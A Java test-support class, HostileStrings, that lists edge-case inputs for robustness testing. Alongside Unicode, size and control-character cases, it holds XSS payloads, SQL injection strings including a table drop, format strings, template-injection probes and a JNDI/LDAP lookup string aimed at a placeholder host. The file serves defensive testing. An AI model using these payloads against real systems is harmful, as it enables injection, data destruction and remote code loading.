package app.goodenough.support;

import java.util.List;

/** Text that breaks careless code: sizes, blanks, Unicode edge cases, markup, SQL and format strings. */
public final class HostileStrings {

    public static final List<String> ALL = List.of(
            "",
            "   ",
            "\t\n\r\n",
            "x".repeat(100_000),
            "word ".repeat(2_000),
            "\u202Egnp.exe \u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
            "Zalgo Z\u0351\u0352\u0353a\u0300\u0301\u0302l\u0334\u0335g\u0336o",
            "\uD83D\uDE42 \uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66 \uD83C\uDDE9\uD83C\uDDEA",
            "null\u0000byte",
            "lone \uD800 surrogate",
            "bell\u0007 and escape\u001B[31m",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "[click](javascript:alert(1))",
            "'; drop table booking; --",
            "' or '1'='1",
            "%_\\ %s%s%n%x {0} ${jndi:ldap://example.org/a} #{7*7} {{7*7}}");

    private HostileStrings() {
    }
}
